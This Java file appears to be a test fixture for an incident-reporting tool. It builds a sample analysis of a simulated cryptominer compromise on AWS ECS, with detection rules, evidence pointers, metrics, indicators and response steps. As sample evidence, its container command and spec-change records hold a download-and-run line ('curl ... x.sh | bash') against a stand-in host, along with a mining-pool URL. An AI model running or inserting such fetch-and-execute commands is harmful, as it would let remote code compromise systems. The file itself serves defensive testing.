package org.ephemera.report;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.TreeMap;
import org.ephemera.analyze.Analysis;
import org.ephemera.analyze.AnalyzedPackage;
import org.ephemera.analyze.model.CallerSummaries;
import org.ephemera.analyze.model.CallerSummary;
import org.ephemera.analyze.model.ContainerExecution;
import org.ephemera.analyze.model.ContainerPrivileges;
import org.ephemera.analyze.model.ContainerSpec;
import org.ephemera.analyze.model.CurrentTag;
import org.ephemera.analyze.model.EvidenceGap;
import org.ephemera.analyze.model.EvidenceLocation;
import org.ephemera.analyze.model.FileLocation;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.model.Indicator;
import org.ephemera.analyze.model.LocatedValue;
import org.ephemera.analyze.model.MetricSubject;
import org.ephemera.analyze.model.MinerScore;
import org.ephemera.analyze.model.NextStep;
import org.ephemera.analyze.model.OtherRegionCalls;
import org.ephemera.analyze.model.Platform;
import org.ephemera.analyze.model.Rule;
import org.ephemera.analyze.model.Severity;
import org.ephemera.analyze.model.ShellWord;
import org.ephemera.analyze.model.SpecChange;
import org.ephemera.analyze.model.TimeSeries;
import org.ephemera.analyze.model.Verdict;
import org.ephemera.analyze.model.Workload;
import org.ephemera.analyze.model.WorkloadHost;
import org.ephemera.model.Digest;

/** Sample analysis of an incident on ECS with EC2: a miner, an escape, and interactive access. */
final class SampleAnalysis {
    static final String ID_OF_TASK = "9f3c1a7be4d24c0f8a6b5d2e17c0934a";
    static final String TASK = "arn:aws:ecs:eu-central-1:111122223333:task/shop/" + ID_OF_TASK;
    static final Instant FROM = Instant.parse("2026-11-26T05:36:55.968Z");
    static final Instant TO = Instant.parse("2026-11-26T12:36:25.503Z");
    static final Digest SHA = new Digest("e7399dc87d8d38a4bb087561dda61ba309465329b7898582333bee0b388c40f8");
    static final Instant BEGAN = Instant.parse("2026-11-26T11:55:00Z");

    /** Hostile texts for every place that a target controls. */
    private final List<String> words;

    private int said;

    private SampleAnalysis(List<String> words) {
        this.words = words;
    }

    static Analysis plain() {
        return new SampleAnalysis(List.of()).analysis(0);
    }

    /**
     * Returns the sample with more findings.
     *
     * @param more findings, each about one log line
     */
    static Analysis large(int more) {
        return new SampleAnalysis(List.of()).analysis(more);
    }

    /** Returns the sample with each of these texts in some place that the target controls. */
    static Analysis saying(List<String> words) {
        return new SampleAnalysis(words).analysis(0);
    }

    /** Returns the usual text of the target, or the hostile text to test. */
    private String said(String usual) {
        return words.isEmpty() ? usual : words.get(said++ % words.size());
    }

    private Analysis analysis(int more) {
        List<Finding> findings = new ArrayList<>(findings());
        for (int i = 0; i < more; i++) {
            findings.add(Finding.of(
                    LOG,
                    "checkout",
                    "stratum+tcp://pool-" + i + ".example:3333 in a line of the log",
                    line("data/raw/aws.logs.stream.1/4bce8da1/0001.body.json", i + 1)));
        }
        return new Analysis(
                new AnalyzedPackage(SampleItems.request(this::said), SampleItems.closing(), SampleItems.seal(), SHA),
                List.of(),
                List.of(),
                "2026.11+1a2b3c4d",
                List.of(workload()),
                verdict(),
                List.of(),
                findings,
                miners(),
                changes(),
                List.of(new CurrentTag(
                        "shop/metrics-agent:1.9.0",
                        "sha256:" + SHA.hex(),
                        "sha256:" + "5f".repeat(32),
                        Optional.of(BEGAN),
                        false,
                        pointer("aws.ecr.image.2", "/imageDetails/0"))),
                callers(),
                elsewhere(),
                series(),
                List.of(curve("log lines", "Sum", "lines a minute", 60, 240)),
                SampleTimeline.timeline(this::said),
                128_412,
                indicators(),
                SampleItems.coverage(this::said),
                List.of(
                        new EvidenceGap(
                                "aws.ecs.exec-session.2", "the session's end is missing: " + said("no EXIT line")),
                        new EvidenceGap(
                                "LOG rules on audit", "its output went to a log router, and no copy was collected")));
    }

    private List<OtherRegionCalls> elsewhere() {
        return List.of(new OtherRegionCalls(
                said("arn:aws:iam::111122223333:user/ops-hotfix"),
                List.of(new OtherRegionCalls.InRegion(
                        said("us-west-2"),
                        3,
                        2,
                        BEGAN,
                        BEGAN,
                        List.of(said("RunTask"), "CreateCluster"),
                        1,
                        List.of(line("data/raw/aws.cloudtrail.events.9/4bce8da1/0001.body.json", 1)))),
                0));
    }

    private CallerSummaries callers() {
        Instant last = Instant.parse("2026-11-26T11:55:13Z");
        return new CallerSummaries(
                List.of(
                        new CallerSummary(
                                said("arn:aws:iam::111122223333:user/ops-hotfix"),
                                4211,
                                12,
                                7,
                                5,
                                List.of(said("ExecuteCommand"), "RunTask"),
                                3,
                                BEGAN,
                                last),
                        new CallerSummary("reader", 2, 0, 1, 0, List.of("ListTasks"), 0, BEGAN, last)),
                1);
    }

    private static final Rule ESCAPE = rule(
            "ESC-001",
            Severity.CRITICAL,
            "Privileged container",
            NextStep.HOST,
            "Storage and network agents run so; look at the image and the owner.",
            "T1611",
            "T1610");

    private static final Rule COMMAND = rule(
            "CMD-001",
            Severity.HIGH,
            "Download that is run at once",
            NextStep.CONTAINER,
            "Installers of a base image do this while it is built, seldom when it starts.",
            "T1059.004",
            "T1105");

    private static final Rule EXEC =
            rule("EXE-004", Severity.HIGH, "Command run in a task by ECS Exec", NextStep.CREDENTIALS, "", "T1609");

    static final Rule LOG =
            rule("LOG-001", Severity.HIGH, "Words of a coin miner in a log", NextStep.CONTAINER, "", "T1496.001");

    private static final Rule IMAGE = rule(
            "IMG-001", Severity.MEDIUM, "Image without a digest", NextStep.CONFIG, "Common; matters with a moved tag.");

    private static final Rule ROOT =
            rule("ESC-013", Severity.LOW, "Container runs as root", NextStep.CONFIG, "Most images do.", "T1611");

    /** Log that the cloud returns as a string in a document. */
    static final String LOG_IN_JSON = "data/raw/azure.aci.log.2/79ec382d/000001.body.json";

    private static Rule rule(String id, Severity severity, String title, NextStep next, String note, String... attack) {
        return new Rule(id, severity, title, List.of(attack), Optional.of(next), note);
    }

    static EvidenceLocation pointer(String item, String path) {
        return new EvidenceLocation(
                "data/raw/" + item + "/4bce8da1/0001.body.json", new FileLocation.Pointer(path), SHA);
    }

    private static EvidenceLocation line(String file, long number) {
        return new EvidenceLocation(file, new FileLocation.Line(number), SHA);
    }

    private List<Finding> findings() {
        EvidenceLocation definition =
                pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/privileged");
        return List.of(
                Finding.of(ESCAPE, said("checkout"), "privileged is " + said("true"), definition)
                        .asHostPath(),
                Finding.of(
                                COMMAND,
                                "checkout",
                                said("sh -c curl -fsSL http://198.51.100.7/x.sh | bash"),
                                pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command"))
                        .withEvidence(pointer("aws.cloudtrail.events.2", "/Events/3")),
                Finding.of(
                                EXEC,
                                said("arn:aws:iam::111122223333:user/ops-hotfix"),
                                "ExecuteCommand /bin/sh from 203.0.113.9",
                                pointer("aws.cloudtrail.events.1", "/Events/0"))
                        .at(Instant.parse("2026-11-26T11:53:13Z")),
                Finding.of(IMAGE, "metrics-agent", said("shop/metrics-agent:1.9.0"), definition)
                        .withEvidence(new EvidenceLocation(LOG_IN_JSON, new FileLocation.Line("/content", 3), SHA)),
                Finding.of(ROOT, "checkout", "user is not set", definition),
                Finding.of(ESCAPE, "aws-guardduty-agent", "privileged is true", definition)
                        .suppressedAs("known agent: GuardDuty's own container"));
    }

    private Verdict verdict() {
        return new Verdict(
                Verdict.Answer.IMAGE_HOST,
                Verdict.Confidence.LIKELY,
                List.of(new LocatedValue<>(
                        "ESC-001: checkout runs privileged on an EC2 instance that you can image",
                        pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/privileged"))),
                List.of(
                        new Verdict.Step(
                                "Keep the host",
                                "A snapshot is worth nothing if the group replaces the instance first.",
                                List.of("aws autoscaling set-instance-protection --instance-ids i-0a1b2c3d4e5f60718"
                                        + " --auto-scaling-group-name ecs-shop --protected-from-scale-in")),
                        new Verdict.Step(
                                "Snapshot its disks",
                                "Before anything is stopped.",
                                List.of(
                                        "aws ec2 create-snapshot --volume-id vol-0123456789abcdef0 --description "
                                                + ShellWord.quoted(said("case IR-2026-118")),
                                        "aws ec2 create-snapshot --volume-id vol-0fedcba9876543210"))));
    }

    private Workload workload() {
        EvidenceLocation at = pointer("aws.ecs.task", "/tasks/0");
        return new Workload(
                Platform.ECS_EC2,
                "111122223333/eu-central-1",
                TASK,
                Optional.of(new LocatedValue<>("service:checkout", at.child("group"))),
                List.of(new WorkloadHost(
                        new LocatedValue<>("i-0a1b2c3d4e5f60718", at),
                        "",
                        List.of(new LocatedValue<>("vol-0123456789abcdef0", at)),
                        List.of(new LocatedValue<>("docker 25.0.3", at)),
                        List.of(new LocatedValue<>(said("task payments/7d41"), at)))),
                Optional.empty(),
                Optional.empty(),
                List.of(
                        container(
                                "checkout",
                                said("111122223333.dkr.ecr.eu-central-1.amazonaws.com/shop/checkout:2026.11.3")),
                        container(said("metrics-agent"), "shop/metrics-agent:1.9.0")),
                List.of(new LocatedValue<>("arn:aws:iam::111122223333:role/shop-checkout-task", at)),
                Map.of(),
                org.ephemera.analyze.model.WorkloadExposure.NONE,
                List.of(),
                at,
                Optional.empty());
    }

    private ContainerSpec container(String name, String image) {
        EvidenceLocation at = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0");
        return new ContainerSpec(
                name,
                ContainerSpec.Kind.MAIN,
                Optional.of(new LocatedValue<>(image, at.child("image"))),
                Optional.of(new LocatedValue<>("sha256:" + SHA.hex(), at)),
                ContainerPrivileges.NONE,
                List.of(),
                List.of(),
                org.ephemera.analyze.model.SecurityRestrictions.UNSET,
                new ContainerExecution(
                        List.of(new ContainerExecution.Command(
                                "command",
                                List.of("sh", "-c", said("curl -fsSL http://198.51.100.7/x.sh | bash; echo $HOME")),
                                true,
                                at.child("command"))),
                        List.of(
                                new ContainerExecution.Variable("POOL", "stratum+tcp://198.51.100.7:3333", true, at),
                                new ContainerExecution.Variable(
                                        said("DB_HOST"), "a-value-that-must-not-show", false, at)),
                        List.of(),
                        Optional.of(new LocatedValue<>(0.5, at)),
                        Optional.of(new LocatedValue<>(1L << 30, at))),
                at,
                Optional.empty());
    }

    private List<MinerScore> miners() {
        EvidenceLocation at = pointer("aws.cloudwatch.container-insights.1", "/MetricDataResults/4");
        return List.of(
                new MinerScore(
                        measured("checkout"),
                        said("checkout"),
                        9,
                        MinerScore.Level.HIGH,
                        Optional.of(BEGAN),
                        List.of(
                                new MinerScore.Points("FLAT_HIGH", 3, "99.4 % for 41 min, deviation 0.3", List.of(at)),
                                new MinerScore.Points("MEMORY_STEP", 4, said("2,081 MiB more at 11:55"), List.of(at)),
                                new MinerScore.Points("DAY_SHAPE", -1, "earlier days were busy too", List.of())),
                        ""),
                MinerScore.withoutPoints(measured("metrics-agent"), "metrics-agent", ""));
    }

    /** Dimensions of the series of a container in the task. */
    static MetricSubject measured(String container) {
        return new MetricSubject(MetricSubject.Level.CONTAINER, "shop", "checkout", ID_OF_TASK, container);
    }

    private List<SpecChange> changes() {
        EvidenceLocation at = pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command");
        EvidenceLocation before =
                pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/command");
        return List.of(
                new SpecChange(
                        "checkout",
                        "/containers/checkout/command",
                        "the task definition",
                        "java -jar /app/checkout.jar",
                        said("sh -c curl -fsSL http://198.51.100.7/x.sh | bash"),
                        before,
                        at),
                new SpecChange(
                        "checkout",
                        "/containers/checkout/environment/POOL",
                        "the task definition",
                        "",
                        "set",
                        before,
                        at));
    }

    private static TimeSeries curve(String metric, String statistic, String unit, double low, double high) {
        List<TimeSeries.Point> points = new ArrayList<>();
        Instant start = FROM.minus(Duration.ofDays(3)).truncatedTo(java.time.temporal.ChronoUnit.MINUTES);
        for (int i = 0; start.plusSeconds(60L * i).isBefore(TO); i++) {
            Instant time = start.plusSeconds(60L * i);
            boolean blank = i % 1440 > 900 && i % 1440 < 930;
            double value =
                    time.isBefore(BEGAN) ? low * (1 + 0.3 * Math.sin(i / 200.0) + 0.1 * Math.sin(i * 1.7)) : high;
            points.add(new TimeSeries.Point(time, blank ? OptionalDouble.empty() : OptionalDouble.of(value)));
        }
        return new TimeSeries(
                "checkout",
                metric,
                statistic,
                unit,
                Duration.ofMinutes(1),
                new TreeMap<>(Map.of(
                        "ClusterName",
                        "shop",
                        "ServiceName",
                        "checkout",
                        "TaskId",
                        ID_OF_TASK,
                        "ContainerName",
                        "checkout")),
                points,
                pointer("aws.cloudwatch.container-insights.1", "/MetricDataResults/4"));
    }

    private static List<TimeSeries> series() {
        return List.of(
                curve("CpuUtilized", "Average", "None", 90, 508),
                curve("CpuUtilized", "Maximum", "None", 130, 512),
                curve("MemoryUtilized", "Maximum", "Megabytes", 410, 990),
                curve("NetworkRxBytes", "Average", "Bytes/Second", 52_000, 4_100),
                curve("NetworkTxBytes", "Average", "Bytes/Second", 81_000, 2_300));
    }

    private List<Indicator> indicators() {
        EvidenceLocation at = line("data/raw/aws.logs.stream.1/4bce8da1/0001.body.json", 3312);
        return List.of(
                new Indicator(Indicator.Kind.IP, "198.51.100.7", List.of("CMD-001"), at),
                new Indicator(Indicator.Kind.URL, said("http://198.51.100.7/x.sh"), List.of("CMD-001"), at),
                new Indicator(Indicator.Kind.DOMAIN, "pool.example.net", List.of("LOG-001"), at),
                new Indicator(Indicator.Kind.WALLET, "4".repeat(95), List.of("LOG-001"), at));
    }
}
